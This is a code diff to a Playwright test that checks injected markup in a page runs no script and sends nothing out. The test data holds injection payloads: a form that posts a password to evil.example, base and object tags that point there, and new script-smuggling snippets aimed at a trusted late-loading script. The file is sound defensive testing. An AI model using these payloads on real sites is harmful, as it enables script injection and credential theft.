@@ -1,4 +1,5 @@
 import { expect } from "playwright/test";
+import { LATE_SCRIPT } from "../../worker/render/boot.ts";
 import { HOME, origin, watch } from "./portal.ts";
 import { messages, pathOf, requested, rewrite } from "./shell/shell.ts";
 import { test } from "./test.ts";
@@ -20,6 +21,10 @@ test("markup that got into a page runs nothing, loads nothing of others and lead
 		'<form id="out" action="https://evil.example/"><input name="password" value="x"></form>',
 		'<base href="https://evil.example/">',
 		'<object data="https://evil.example/x"></object>',
+		// The policy trusts this script, which moves what is before it.
+		'<p data-part="x" data-state="pending"></p><p data-part="y" data-state="pending"></p>',
+		`<div data-late><p data-part="x"><script>window.pwned = 1</script></p></div><script>${LATE_SCRIPT}</script>`,
+		`<template data-late><p data-part="y"><script>window.pwned = 1</script></p></template><script>${LATE_SCRIPT}</script>`,
 		'<style>body { display: none }</style><p id="shown" style="display: none">x</p>',
 	].join("");
 	await rewrite(page, `${HOME}/about`, (html) => html.replace('<main id="content"', `${injected}$&`));
